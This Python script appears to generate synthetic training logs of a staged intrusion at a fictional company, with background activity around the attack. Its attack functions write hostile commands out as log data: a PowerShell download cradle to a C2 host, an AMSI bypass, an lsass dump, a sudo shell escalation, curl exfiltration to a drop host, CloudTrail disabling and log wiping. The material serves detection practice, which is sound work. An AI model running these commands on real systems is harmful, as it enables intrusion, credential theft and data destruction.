#!/usr/bin/env python3
"""Writes content/samples/intrusion: a recorded intrusion at a company that does not exist, with a working day around it.

Deterministic: one seed, one fixed day, no clock. Run it from the project's root:

    python3 tools/make_samples.py [folder]

Every name lies under .example, every outside address in a documentation range, every hash is made up. The
timetable of the attack is in content/samples/README.md; keep both in step. The file has three parts: the background
of a working day, the attack in order of time, and the writing of the files. The shapes of the logs are in
sample_logs.py.
"""
import base64
import datetime
import json
import os
import sys

from sample_logs import (at, working_time, Cloud, Linux, Windows, Zeek, ATTACKER, C2_NAME, DROP, DROP_NAME, IMPLANT,
                         POWERSHELL, RANDOM, SRV_IP, SYSTEM32, TUNNEL, USER, WORD, WS_IP)


# --- The background of a working day -----------------------------------------------------------------------------

SITES = [("www.example.com", "192.0.2.20"), ("mail.example.net", "192.0.2.31"), ("news.example.org", "192.0.2.44"),
         ("docs.example.net", "192.0.2.52"), ("cdn.example.com", "192.0.2.60"), ("bank.example.org", "192.0.2.71"),
         ("updates.example.com", "192.0.2.80"), ("maps.example.net", "192.0.2.91")]
BROWSERS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0 Safari/537.36",
            "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 Version/19.1 Mobile Safari/604.1"]
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
EXPLORER = ("C:\\Windows\\explorer.exe", 3120, "C:\\Windows\\Explorer.EXE")
SERVICES = (SYSTEM32 + "services.exe", 692, SYSTEM32 + "services.exe")


def windows_background(windows):
    edge = (EDGE, 3988, f'"{EDGE}"')
    starts = [
        (EDGE, f'"{EDGE}" --type=renderer --lang=en-GB', edge), (WORD, f'"{WORD}" /n', EXPLORER),
        ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "EXCEL.EXE /dde", EXPLORER),
        (SYSTEM32 + "notepad.exe", "notepad.exe", EXPLORER), (SYSTEM32 + "mmc.exe", "mmc.exe", EXPLORER),
        (SYSTEM32 + "svchost.exe", SYSTEM32 + "svchost.exe -k netsvcs -p -s Schedule", SERVICES),
        (SYSTEM32 + "taskhostw.exe", "taskhostw.exe", SERVICES),
        (SYSTEM32 + "backgroundTaskHost.exe", "backgroundTaskHost.exe -ServerName:App", SERVICES)]
    for _ in range(120):
        image, command, parent = RANDOM.choice(starts)
        system = parent is SERVICES
        windows.process(working_time(), image, command, parent, "NT AUTHORITY\\SYSTEM" if system else USER,
                        "System" if system else "Medium", audit=RANDOM.random() < 0.3)
    for _ in range(85):
        name, address = RANDOM.choice(SITES)
        when = working_time()
        windows.query(when, edge, name, address)
        windows.connect(when + datetime.timedelta(seconds=0.2), edge, address, 443, name)
    for _ in range(80):
        number = RANDOM.randint(100, 999)
        name = RANDOM.choice(["Documents\\ledger-%d.xlsx", "Documents\\~$ledger-%d.xlsx", "Downloads\\statement-%d.pdf",
                              "AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Cache\\f_%06d"]) % number
        windows.file(working_time(), EXPLORER if "ledger" in name else edge, "C:\\Users\\m.lindqvist\\" + name)
    for _ in range(50):
        windows.sysmon(working_time(), 13, EventType="SetValue", ProcessId="3120", Image=EXPLORER[0], User=USER,
                       TargetObject="HKU\\S-1-5-21-1180699209-877415012-3182924384-1142\\SOFTWARE\\Microsoft\\Windows\\"
                                    f"CurrentVersion\\Explorer\\RecentDocs\\{RANDOM.randint(1, 90)}",
                       Details="Binary Data")
    for _ in range(12):
        windows.script(working_time(), RANDOM.choice(["prompt", "Get-ChildItem -Path $HOME\\Documents", "Get-Date"]))
    for _ in range(60):
        windows.logon(working_time(), 4624, RANDOM.choice(["m.lindqvist", "WS-042$"]), RANDOM.choice([3, 7]), "10.20.0.10",
                      workstation="DC-01")
    for clock in ("08:02", "13:07"):
        windows.logon(at(clock), 4625, "m.lindqvist", 2, "127.0.0.1")


def linux_background(linux):
    admin = "10.20.3.11"
    for _ in range(70):
        when = working_time()
        user = RANDOM.choice(["e.okafor", "j.silva", "svc-deploy"])
        linux.sshd(when, user, admin if user != "svc-deploy" else "10.20.1.5", True, "publickey")
        linux.line(linux.auth, when + datetime.timedelta(seconds=0.2), "sshd",
                   f"pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)")
    for clock, user in (("08:41", "e.okafor"), ("11:15", "j.silva"), ("15:20", "j.silva")):
        linux.sshd(at(clock), user, admin, False)
    for _ in range(25):
        linux.sudo(working_time(), RANDOM.choice(["e.okafor", "j.silva"]), RANDOM.choice(
            ["/usr/bin/apt update", "/usr/bin/systemctl status nginx", "/usr/bin/journalctl -u smbd -n 50",
             "/usr/bin/less /var/log/nginx/error.log"]), "pts/0")
    for quarter in range(0, 40):
        when = at("07:00", quarter * 900 + 1)
        linux.line(linux.syslog, when, "CRON", "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)")
        linux.line(linux.syslog, when + datetime.timedelta(seconds=9), "systemd",
                   "Started logrotate-check.service - Check of log sizes.")
    for _ in range(90):
        linux.line(linux.syslog, working_time(), "smbd", RANDOM.choice(
            ["  m.lindqvist (10.20.4.42:52211) connect to service finance", "  closed connection to service finance"]))
    jobs = [["ls", "-l", "/srv/share"], ["df", "-h"], ["systemctl", "status", "nginx"], ["tail", "-n", "50",
            "/var/log/nginx/error.log"], ["rsync", "-a", "/srv/share/", "/mnt/backup/share/"], ["grep", "-c", "error",
            "/var/log/syslog"], ["date"], ["git", "-C", "/srv/www/portal", "pull"]]
    for _ in range(150):
        linux.execute(working_time(), RANDOM.choice(jobs), (1001, 1001, "pts0"))
    for _ in range(60):
        linux.touch(working_time(), "/usr/sbin/smbd", f"/srv/share/finance/ledger-{RANDOM.randint(100, 999)}.xlsx",
                    (1108, 4294967295, "(none)"))
    pages = ["/", "/login", "/news", "/assets/site.css", "/assets/logo.svg", "/documents?page=2", "/api/orders?state=open",
             "/api/orders/4411", "/img/header.jpg", "/contact"]
    for _ in range(620):
        target = RANDOM.choice(pages)
        linux.request(working_time(), f"198.51.100.{RANDOM.randint(1, 180)}", "POST" if target == "/login" else "GET",
                      target, 302 if target == "/login" else RANDOM.choices([200, 304, 404], [80, 18, 2])[0],
                      RANDOM.randint(300, 42000), RANDOM.choice(BROWSERS))


def network_background(zeek):
    clients = [f"10.20.4.{n}" for n in (17, 23, 31, 42, 58, 77)]
    for _ in range(330):
        when, client = working_time(), RANDOM.choice(clients)
        name, address = RANDOM.choice(SITES)
        zeek.dns(when, client, name, "A", address)
        zeek.tls(when + datetime.timedelta(seconds=0.1), client, address, name, RANDOM.randint(500, 9000),
                 RANDOM.randint(2000, 900000), RANDOM.uniform(0.1, 40))
    for _ in range(160):
        when, client = working_time(), RANDOM.choice(clients)
        zeek.conn(when, client, SRV_IP, 445, service="smb", duration=RANDOM.uniform(0.5, 60),
                  sent=RANDOM.randint(800, 60000), received=RANDOM.randint(900, 700000))
    for _ in range(60):
        when, client = working_time(), RANDOM.choice(clients)
        uid = zeek.conn(when, client, SRV_IP, 80, service="http")
        zeek.row("http", when, uid, client, RANDOM.randint(49152, 65000), SRV_IP, 80, "GET", "portal.harrow.example",
                 "/news", BROWSERS[0], 0, RANDOM.randint(900, 20000), 200, "text/html")


def cloud_background(cloud):
    for _ in range(70):
        service, name, parameters = RANDOM.choice([
            ("s3", "ListObjects", {"bucketName": "harrow-backup"}), ("ec2", "DescribeInstances", {}),
            ("sts", "GetCallerIdentity", None), ("s3", "PutObject", {"bucketName": "harrow-backup", "key": "share.tar"}),
            ("monitoring", "GetMetricData", {}), ("rds", "DescribeDBInstances", {})])
        cloud.call(working_time(), RANDOM.choice(["e.okafor", "ci-deploy", "svc-backup"]), service, name, parameters)


# --- The attack, in order of time --------------------------------------------------------------------------------

def reconnaissance(linux):
    words = "admin backup old test dev api/v1 .git/config .env uploads config phpinfo.php server-status wp-login.php cgi-bin"
    for number in range(64):
        word = (words.split() * 5)[number] + ("" if number < 14 else str(number))
        status, size = (301, 178) if word == "uploads" else (404, 153)
        linux.request(at("08:55:04", number * 0.7), ATTACKER, "GET", "/" + word, status, size, "gobuster/3.8")


def phishing(windows, zeek):
    """09:12: the document is opened and its macro starts the loader."""
    outlook = ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", 3640, "OUTLOOK.EXE")
    document = "C:\\Users\\m.lindqvist\\Downloads\\Invoice_2026-1117.docm"
    windows.file(at("09:11:52"), outlook, document)
    word = windows.process(at("09:12:03"), WORD, f'"{WORD}" /n "{document}"', outlook, original="WinWord.exe")
    loader = f"IEX (New-Object Net.WebClient).DownloadString('https://{C2_NAME}/u/index')"
    encoded = base64.b64encode(loader.encode("utf-16-le")).decode()
    shell = windows.process(at("09:12:41"), POWERSHELL, f"powershell.exe -NoP -W Hidden -Enc {encoded}", word,
                            original="PowerShell.EXE")
    zeek.dns(at("09:12:42"), WS_IP, C2_NAME, "A", ATTACKER)
    windows.query(at("09:12:42"), shell, C2_NAME, ATTACKER)
    windows.connect(at("09:12:42", 0.5), shell, ATTACKER, 443, C2_NAME)
    zeek.tls(at("09:12:42", 0.6), WS_IP, ATTACKER, C2_NAME, 812, 48211, 1.2, subject="CN=localhost", issuer="CN=localhost")
    windows.script(at("09:12:43"), loader)
    windows.script(at("09:12:45"), "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"
                                   ".GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)")
    windows.file(at("09:13:10"), shell, IMPLANT)
    implant = windows.process(at("09:13:22"), IMPLANT, IMPLANT, shell)
    windows.sysmon(at("09:14:02"), 13, EventType="SetValue", ProcessGuid=windows.guid(implant[1]),
                   ProcessId=str(implant[1]), Image=IMPLANT, User=USER, Details=IMPLANT + " -q",
                   TargetObject="HKU\\S-1-5-21-1180699209-877415012-3182924384-1142\\SOFTWARE\\Microsoft\\Windows\\"
                                "CurrentVersion\\Run\\OneSync")
    windows.process(at("09:14:31"), SYSTEM32 + "schtasks.exe",
                    f"schtasks /create /sc hourly /tn OneSyncUpdate /tr {IMPLANT} /f", implant)
    return implant


def beacon(windows, zeek, implant):
    """One call a minute, with a little jitter, until the last act."""
    for minute in range(0, 322):
        when = at("09:15:00", minute * 60 + RANDOM.uniform(-3, 3))
        zeek.tls(when, WS_IP, ATTACKER, C2_NAME, 412 + RANDOM.randint(0, 8), 1288 + RANDOM.randint(0, 12), 0.31,
                 subject="CN=localhost", issuer="CN=localhost")
        if minute % 10 == 0:
            windows.connect(when, implant, ATTACKER, 443, C2_NAME)


def discovery_and_credentials(windows, implant):
    shell = windows.process(at("09:31:05"), SYSTEM32 + "cmd.exe", "cmd.exe", implant)
    for number, (image, command) in enumerate([
            ("whoami.exe", "whoami /all"), ("net.exe", 'net group "Domain Admins" /domain'),
            ("nltest.exe", "nltest /domain_trusts /all_trusts"), ("net.exe", "net view \\\\srv-files01 /all"),
            ("setspn.exe", "setspn -T harrow.example -Q */*")]):
        windows.process(at("09:31:20", number * 17), SYSTEM32 + image, command, shell)
    windows.script(at("09:36:10"), "Find-LocalAdminAccess -Verbose; Invoke-ShareFinder -CheckShareAccess")
    admin = windows.process(at("09:43:30"), SYSTEM32 + "cmd.exe", "cmd.exe", implant, "NT AUTHORITY\\SYSTEM", "System")
    dump = "C:\\Users\\Public\\OneSync\\lsass.dmp"
    runner = windows.process(at("09:44:12"), SYSTEM32 + "rundll32.exe",
                             f"rundll32.exe {SYSTEM32}comsvcs.dll, MiniDump 704 {dump} full", admin,
                             "NT AUTHORITY\\SYSTEM", "System", original="RUNDLL32.EXE")
    windows.sysmon(at("09:44:12", 0.4), 10, SourceProcessId=str(runner[1]), SourceImage=runner[0], TargetProcessId="704",
                   TargetImage=SYSTEM32 + "lsass.exe", GrantedAccess="0x1fffff", SourceUser="NT AUTHORITY\\SYSTEM",
                   CallTrace="C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c0fe|"
                             "C:\\Windows\\System32\\comsvcs.dll+2ba1f", TargetUser="NT AUTHORITY\\SYSTEM")
    windows.file(at("09:44:13"), runner, dump)


def password_guessing(windows, linux, zeek):
    """09:57 one password against many domain accounts, 10:05 many passwords against one account of the server."""
    names = ["a.novak", "b.ferrari", "c.ito", "d.mensah", "e.okafor", "f.dubois", "g.larsen", "h.cohen", "i.petrov",
             "j.silva", "k.brandt", "l.moreau", "n.haddad", "o.jansen"]
    for number, name in enumerate(names):
        windows.logon(at("09:57:02", number * 6.5), 4625, name, 3, WS_IP, "DC-01.harrow.example")
    windows.logon(at("09:58:40"), 4624, "adm-okafor", 3, WS_IP, "DC-01.harrow.example")
    windows.audit(at("09:58:40", 0.1), 4672, "DC-01.harrow.example", SubjectUserName="adm-okafor",
                  SubjectDomainName="HARROW", SubjectLogonId="0x7c1e2",
                  PrivilegeList="SeBackupPrivilege SeDebugPrivilege SeTakeOwnershipPrivilege")
    for number in range(16):
        when = at("10:05:03", number * 9)
        zeek.conn(when, WS_IP, SRV_IP, 22, service="ssh", duration=2.4, sent=1900, received=2300)
        linux.sshd(when + datetime.timedelta(seconds=1.5), "svc-backup", WS_IP, False)
    zeek.conn(at("10:07:40"), WS_IP, SRV_IP, 22, service="ssh", duration=4260.0, sent=88211, received=214501)
    linux.sshd(at("10:07:41"), "svc-backup", WS_IP, True)
    linux.line(linux.auth, at("10:07:41", 0.2), "sshd",
               "pam_unix(sshd:session): session opened for user svc-backup(uid=1004) by (uid=0)")


def server_takeover(linux):
    """10:08 to 10:25: to root, hashes and keys, then the web shell."""
    user, root = (1004, 1004, "pts1"), (0, 1004, "pts1")
    for number in range(2):
        linux.sudo(at("10:08:10", number * 14), "svc-backup", "/usr/bin/bash", note="command not allowed ; ")
    linux.execute(at("10:08:50"), ["find", "/", "-perm", "-4000", "-type", "f"], user)
    linux.sudo(at("10:09:32"), "svc-backup", "/usr/bin/find /var/backups -maxdepth 0 -exec /bin/sh ;")
    linux.line(linux.auth, at("10:09:32", 0.1), "sudo",
               "pam_unix(sudo:session): session opened for user root(uid=0) by svc-backup(uid=1004)", pid=False)
    linux.execute(at("10:09:33"), ["find", "/var/backups", "-maxdepth", "0", "-exec", "/bin/sh", ";"], root)
    linux.touch(at("10:11:02"), "/usr/bin/cat", "/etc/shadow", root, "NORMAL")
    linux.execute(at("10:12:20"), ["find", "/home", "/root", "-name", "id_ed25519", "-o", "-name", "credentials"], root)
    linux.execute(at("10:13:41"), ["cat", "/home/svc-backup/.aws/credentials"], root)
    linux.execute(at("10:14:15"), ["grep", "-rniE", "passw|secret", "/srv/www"], root)
    shell = "/srv/www/portal/uploads/2026/thumbs.php"
    linux.touch(at("10:20:11"), "/usr/bin/tee", shell, root)
    linux.execute(at("10:20:40"), ["touch", "-r", "/srv/www/portal/index.php", shell], root)


def web_shell(linux, zeek):
    web = (33, 4294967295, "(none)")
    for number, command in enumerate(["id", "uname -a", "cat /etc/passwd", "ls -la /srv/share", "ps aux", "id"]):
        when = at("10:26:08", number * 21)
        linux.request(when, ATTACKER, "GET", "/uploads/2026/thumbs.php?c=" + command.replace(" ", "%20"), 200,
                      RANDOM.randint(120, 3000), BROWSERS[1])
        zeek.conn(when, ATTACKER, SRV_IP, 443, service="ssl", sent=700, received=1800)
        linux.execute(when + datetime.timedelta(seconds=0.3), ["sh", "-c", command], web, "/usr/bin/dash",
                      "/srv/www/portal/uploads/2026")


def server_persistence(linux):
    root = (0, 1004, "pts1")
    linux.execute(at("10:38:55"), ["mkdir", "-p", "/var/tmp/.cache"], root)
    linux.execute(at("10:39:10"), ["curl", "-sk", "-o", "/var/tmp/.cache/kworkerd", f"https://{ATTACKER}/k"], root)
    linux.execute(at("10:39:31"), ["chmod", "4755", "/var/tmp/.cache/kworkerd"], root)
    linux.touch(at("10:40:02"), "/usr/bin/bash", "/etc/cron.d/sysstat-upd", root)
    linux.touch(at("10:40:44"), "/usr/bin/tee", "/etc/systemd/system/dbus-helper.service", root)
    linux.touch(at("10:41:15"), "/usr/bin/bash", "/root/.ssh/authorized_keys", root)
    linux.execute(at("10:41:50"), ["chattr", "+i", "/etc/cron.d/sysstat-upd"], root)
    for number in range(12):
        when = at("10:50:01", number * 1200)
        linux.line(linux.syslog, when, "CRON", "(root) CMD (/var/tmp/.cache/kworkerd -q)")
        linux.execute(when + datetime.timedelta(seconds=0.2), ["/var/tmp/.cache/kworkerd", "-q"],
                      (0, 0, "(none)"))


def dns_tunnel(zeek):
    for number in range(420):
        label = base64.b32encode(RANDOM.randbytes(34)).decode().rstrip("=").lower()
        kind = "TXT" if number % 3 else "NULL"
        zeek.dns(at("11:02:00", number * 9.5 + RANDOM.uniform(0, 2)), SRV_IP, f"{label[:48]}.{number:04x}.{TUNNEL}", kind,
                 "TXT 24 " + label[:24] if kind == "TXT" else "-")


def cloud_step(cloud):
    """11:34 to 12:20: the stolen key is tried out, a second one made, logging stopped, data read."""
    outside = {"address": ATTACKER, "agent": "aws-cli/2.31.0 md/Linux#6.12-kali"}
    cloud.call(at("11:34:05"), "svc-backup", "sts", "GetCallerIdentity", None, **outside)
    denied = [("iam", "ListUsers"), ("iam", "ListRoles"), ("iam", "GetAccountAuthorizationDetails"), ("ec2", "DescribeVpcs"),
              ("ec2", "DescribeSnapshots"), ("lambda", "ListFunctions"), ("kms", "ListKeys"), ("rds", "DescribeDBSnapshots"),
              ("secretsmanager", "ListSecrets"), ("ssm", "DescribeParameters"), ("dynamodb", "ListTables"),
              ("eks", "ListClusters"), ("ecr", "DescribeRepositories"), ("organizations", "ListAccounts")]
    for number, (service, name) in enumerate(denied):
        cloud.call(at("11:35:10", number * 11), "svc-backup", service, name, None, error="AccessDenied", **outside)
    cloud.call(at("11:41:30"), "svc-backup", "iam", "CreateAccessKey", {"userName": "ci-deploy"}, **outside)
    cloud.call(at("11:46:02"), "ci-deploy", "iam", "AttachUserPolicy",
               {"userName": "svc-backup", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}, **outside)
    cloud.call(at("11:52:47"), "svc-backup", "cloudtrail", "StopLogging", {"name": "harrow-trail"}, **outside)
    for number in range(8):
        cloud.call(at("11:58:00", number * 170), "svc-backup", "s3", "GetObject",
                   {"bucketName": "harrow-backup", "key": f"share-2026-1{number % 2}-{number + 1:02}.tar"},
                   additionalEventData={"bytesTransferredOut": 2147483648.0, "SignatureVersion": "SigV4"}, **outside)


def exfiltration(linux, zeek):
    root = (0, 1004, "pts1")
    linux.execute(at("13:10:12"), ["tar", "czf", "/tmp/.cache.tgz", "/srv/share/finance", "/srv/share/contracts"], root)
    linux.execute(at("13:14:40"), ["curl", "-sk", "-T", "/tmp/.cache.tgz", f"https://{DROP_NAME}/u/"], root)
    zeek.dns(at("13:14:40", 0.1), SRV_IP, DROP_NAME, "A", DROP)
    zeek.tls(at("13:14:40", 0.3), SRV_IP, DROP, DROP_NAME, 1_914_220_771, 88_412, 1322.4)


def extortion(windows, linux, implant):
    """14:20: recovery is made impossible, then files are encrypted on both machines."""
    system = ("NT AUTHORITY\\SYSTEM", "System")
    shell = windows.process(at("14:20:02"), SYSTEM32 + "cmd.exe", "cmd.exe", implant, *system)
    for number, (image, command) in enumerate([
            ("vssadmin.exe", "vssadmin delete shadows /all /quiet"), ("net.exe", "net stop SQLWriter /y"),
            ("bcdedit.exe", "bcdedit /set {default} recoveryenabled No")]):
        windows.process(at("14:20:15", number * 6), SYSTEM32 + image, command, shell, *system)
    locker = windows.process(at("14:21:00"), "C:\\Users\\Public\\OneSync\\sync64.exe",
                             "C:\\Users\\Public\\OneSync\\sync64.exe -p C:\\Users -p \\\\srv-files01\\finance", shell, *system)
    for number in range(240):
        folder = "C:\\Users\\m.lindqvist\\Documents\\" if number < 120 else "\\\\srv-files01\\finance\\"
        windows.file(at("14:21:03", number * 0.35), locker, f"{folder}ledger-{number + 100}.xlsx.hrwlock")
    windows.file(at("14:22:40"), locker, "C:\\Users\\m.lindqvist\\Desktop\\HOW_TO_RECOVER_FILES.txt")
    for number in range(14):
        name = f"/srv/share/contracts/offer-{number + 40}.odt"
        linux.execute(at("14:24:00", number * 2), ["openssl", "enc", "-aes-256-cbc", "-pbkdf2", "-salt", "-in", name,
                                                   "-out", name + ".hrwlock", "-pass", "file:/var/tmp/.cache/k"],
                      (0, 1004, "pts1"))
    return shell


def covering_tracks(windows, linux, shell):
    root, system = (0, 1004, "pts1"), ("NT AUTHORITY\\SYSTEM", "System")
    windows.process(at("14:31:10"), SYSTEM32 + "wevtutil.exe", "wevtutil cl Security", shell, *system)
    windows.log_cleared(at("14:31:10", 0.3), "SYSTEM")
    linux.execute(at("14:33:02"), ["truncate", "-s", "0", "/var/log/nginx/access.log.1"], root)
    linux.touch(at("14:33:20"), "/usr/bin/rm", "/var/log/auth.log.1", root, "DELETE", 263)
    linux.execute(at("14:33:41"), ["ln", "-sf", "/dev/null", "/root/.bash_history"], root)
    linux.execute(at("14:34:05"), ["auditctl", "-D"], root, "/usr/sbin/auditctl")


# --- Writing the files -------------------------------------------------------------------------------------------

def save(folder, name, text):
    path = os.path.join(folder, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8", newline="\n") as out:
        out.write(text)


def zeek_text(name, log):
    fields = [f.split(":") for f in Zeek.FIELDS[name].split()]
    header = ("#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n"
              f"#path\t{name}\n#open\t2026-11-17-07-00-00\n"
              "#fields\t" + "\t".join(f[0] for f in fields) + "\n#types\t" + "\t".join(f[1] for f in fields) + "\n")
    return header + "".join(log.sorted()) + "#close\t2026-11-17-18-00-00\n"


def main():
    folder = sys.argv[1] if len(sys.argv) > 1 else os.path.join("content", "samples", "intrusion")
    windows, linux, zeek, cloud = Windows(), Linux(), Zeek(), Cloud()
    windows_background(windows)
    linux_background(linux)
    network_background(zeek)
    cloud_background(cloud)
    reconnaissance(linux)
    implant = phishing(windows, zeek)
    beacon(windows, zeek, implant)
    discovery_and_credentials(windows, implant)
    password_guessing(windows, linux, zeek)
    server_takeover(linux)
    web_shell(linux, zeek)
    server_persistence(linux)
    dns_tunnel(zeek)
    cloud_step(cloud)
    exfiltration(linux, zeek)
    shell = extortion(windows, linux, implant)
    covering_tracks(windows, linux, shell)

    compact = {"separators": (",", ":"), "ensure_ascii": False}
    save(folder, "ws-042/winlogbeat.ndjson", "".join(json.dumps(r, **compact) + "\n" for r in windows.beat.sorted()))
    save(folder, "ws-042/security.xml", "<Events>\n" + "\n".join(windows.security.sorted()) + "\n</Events>\n")
    for name, log in (("auth.log", linux.auth), ("syslog", linux.syslog), ("audit.log", linux.audit),
                      ("nginx-access.log", linux.web)):
        save(folder, "srv-files01/" + name, "".join(log.sorted()))
    for name, log in zeek.logs.items():
        save(folder, f"zeek/{name}.log", zeek_text(name, log))
    save(folder, "cloudtrail/111122223333_CloudTrail_eu-central-1_20261117.json",
         '{"Records":[\n' + ",\n".join(json.dumps(r, **compact) for r in cloud.log.sorted()) + "\n]}\n")


if __name__ == "__main__":
    main()
